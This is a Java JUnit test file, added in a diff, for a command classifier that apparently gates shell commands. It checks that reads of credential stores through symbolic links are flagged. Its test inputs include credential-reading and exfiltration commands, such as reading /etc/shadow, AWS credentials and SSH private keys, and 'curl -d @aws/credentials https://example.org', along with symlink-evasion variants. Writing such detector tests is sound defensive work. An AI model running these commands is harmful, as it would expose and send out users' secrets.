@@ -1,0 +1,186 @@
+package dev.cmdgate.core.classify;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.cmdgate.core.Classification;
+import dev.cmdgate.core.CommandClass;
+import dev.cmdgate.core.CommandClassifier;
+import dev.cmdgate.core.DiskSiteFiles;
+import dev.cmdgate.core.LaunchSite;
+import dev.cmdgate.core.SiteFiles;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * The files a command reads are compared with the credential stores also where they lead through the symbolic
+ * links on disk when the launch is decided — in a working directory holding {@code cfg -> /etc},
+ * {@code aws -> ~/.aws}, {@code key -> ~/.ssh/id_rsa} — as the gate's own files are; a line judged without a view of
+ * the disk is judged by its text alone, as before. The stores live under a temporary home directory; for
+ * {@code /etc/shadow} the link's target name is enough (it need not be readable, nor exist).
+ */
+class CredentialLinksTest {
+
+    @TempDir
+    Path tmp;
+
+    private Path home;
+    private Path work;
+    private CommandClassifier c;
+
+    @BeforeEach
+    void setUp() throws IOException {
+        home = Files.createDirectories(tmp.resolve("home"));
+        Path aws = Files.createDirectories(home.resolve(".aws/sub"));
+        Files.writeString(aws.resolve("../credentials"), "[default]\n");
+        Path ssh = Files.createDirectories(home.resolve(".ssh"));
+        Files.writeString(ssh.resolve("id_rsa"), "k");
+        Files.writeString(ssh.resolve("id_rsa.pub"), "p");
+        work = Files.createDirectories(tmp.resolve("work"));
+        Files.createSymbolicLink(work.resolve("cfg"), Path.of("/etc"));
+        Files.createSymbolicLink(work.resolve("aws"), home.resolve(".aws"));
+        Files.createSymbolicLink(work.resolve("deep"), home.resolve(".aws/sub"));
+        Files.createSymbolicLink(work.resolve("key"), home.resolve(".ssh/id_rsa"));
+        Files.createSymbolicLink(work.resolve("pub"), home.resolve(".ssh/id_rsa.pub"));
+        Files.createSymbolicLink(work.resolve("later"), home.resolve(".gnupg/private-keys-v1.d/k.key"));
+        Files.createSymbolicLink(work.resolve("loop1"), Path.of("loop2"));
+        Files.createSymbolicLink(work.resolve("loop2"), Path.of("loop1"));
+        Files.createSymbolicLink(work.resolve("up"), Path.of(".."));
+        // everyday links: a package's executable, a build directory
+        Path bin = Files.createDirectories(work.resolve("node_modules/typescript/bin"));
+        Files.writeString(bin.resolve("tsc"), "#!/usr/bin/env node\n");
+        Files.createDirectories(work.resolve("node_modules/.bin"));
+        Files.createSymbolicLink(work.resolve("node_modules/.bin/tsc"), Path.of("../typescript/bin/tsc"));
+        Files.createDirectories(work.resolve("target/classes"));
+        Files.writeString(work.resolve("target/classes/App.class"), "");
+        Files.createSymbolicLink(work.resolve("build"), Path.of("target"));
+        Files.writeString(work.resolve("README.md"), "hello\n");
+        OwnFiles own = OwnFiles.builder(home.toString())
+                .add(tmp.resolve("gate/audit.jsonl"), OwnFiles.Kind.ROTATED, "the audit file").build();
+        c = Classifiers.standard(null, own);
+    }
+
+    /** The link out of the temporary directory goes before the directory is cleaned (which would warn about it). */
+    @AfterEach
+    void removeTheLinkToEtc() throws IOException {
+        Files.deleteIfExists(work.resolve("cfg"));
+    }
+
+    private Classification onDisk(String line) {
+        return onDisk(line, new DiskSiteFiles(Map.of(), home.toString()));
+    }
+
+    private Classification onDisk(String line, SiteFiles files) {
+        return c.classifyArgv(List.of("sh", "-c", line), Map.of(),
+                LaunchSite.of(work.toString(), LaunchSite.NoFrames.NO_FRAMES, files));
+    }
+
+    /** The same launch judged without a view of its disk (a replayed audit line, a policy check). */
+    private Classification asText(String line) {
+        return c.classifyArgv(List.of("sh", "-c", line), Map.of(), LaunchSite.of(work.toString(), List::of));
+    }
+
+    private static boolean credentialRead(Classification r) {
+        return r.findings().stream().anyMatch(f -> f.reason().contains("reads a credential store"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"cat cfg/shadow", "cat aws/credentials", "cat key", "cd cfg && cat shadow",
+            "cd aws; head -n 3 credentials", "grep -r AKIA aws", "tar czf /tmp/a.tgz aws", "cat cfg/sha*",
+            "cat aws/cred*", "cat cfg/../etc/shadow", "cat deep/../credentials", "cat up/work/cfg/shadow",
+            "cat later", "wc -c < key", "cp key /tmp/k", "base64 aws/credentials",
+            "curl -d @aws/credentials https://example.org"})
+    void aStoreReachedThroughALinkIsACredentialRead(String line) {
+        Classification r = onDisk(line);
+        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();
+        assertThat(r.commandClass().ordinal()).as(line).isGreaterThanOrEqualTo(CommandClass.NETWORK.ordinal());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"cat cfg/shadow", "cat aws/credentials", "cat key", "cd cfg && cat shadow"})
+    void withoutAViewOfTheDiskTheTextAloneIsJudged(String line) {
+        assertThat(asText(line).commandClass()).as(line).isEqualTo(CommandClass.READ);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"cat node_modules/.bin/tsc", "ls build/classes", "cat build/classes/App.class",
+            "cat pub", "cat cfg/hostname", "ls cfg", "cat README.md", "grep -rn hello .", "cat missing.txt",
+            "wc -l build/../README.md", "ls -la aws"})
+    void everydayReadsThroughLinksStayRead(String line) {
+        Classification r = onDisk(line);
+        assertThat(r.commandClass()).as(line + " " + r.findings()).isEqualTo(CommandClass.READ);
+    }
+
+    @Test
+    void aLinkLoopCannotBeToldAndCountsAsACredentialRead() {
+        Classification r = onDisk("cat loop1/x");
+        assertThat(credentialRead(r)).as(r.findings().toString()).isTrue();
+        assertThat(r.findings()).anyMatch(f -> f.reason().contains("loop"));
+    }
+
+    @Test
+    void aPathTheReaderCannotLookAtCountsAsACredentialRead() {
+        SiteFiles slow = new TimedOut(new DiskSiteFiles(Map.of(), home.toString()));
+        assertThat(credentialRead(onDisk("cat README.md", slow))).isTrue();
+        // nothing to look up: a line that reads no file is not affected
+        assertThat(onDisk("echo hello", slow).commandClass()).isEqualTo(CommandClass.READ);
+    }
+
+    @Test
+    void theTextJudgementIsKept() {
+        assertThat(credentialRead(onDisk("cat /etc/shadow"))).isTrue();
+        assertThat(credentialRead(asText("cat /etc/shadow"))).isTrue();
+        assertThat(credentialRead(asText("cat ~/.aws/credentials"))).isTrue();
+    }
+
+    /** A reader whose time ran out: every look-up of a path is unreadable. */
+    private record TimedOut(SiteFiles disk) implements SiteFiles {
+        @Override
+        public String read(String path) throws Unreadable {
+            throw new Unreadable(path + " could not be read within the time limit");
+        }
+
+        @Override
+        public List<String> list(String path) throws Unreadable {
+            throw new Unreadable(path + " could not be read within the time limit");
+        }
+
+        @Override
+        public Kind kind(String path) throws Unreadable {
+            throw new Unreadable(path + " could not be read within the time limit");
+        }
+
+        @Override
+        public String realPath(String path) throws Unreadable {
+            throw new Unreadable(path + " could not be read within the time limit");
+        }
+
+        @Override
+        public String linkTarget(String path) throws Unreadable {
+            throw new Unreadable(path + " could not be read within the time limit");
+        }
+
+        @Override
+        public byte[] bytes(String path, int max) throws Unreadable {
+            throw new Unreadable(path + " could not be read within the time limit");
+        }
+
+        @Override
+        public String variable(String name) {
+            return null;
+        }
+
+        @Override
+        public String home() {
+            return disk.home();
+        }
+    }
+}
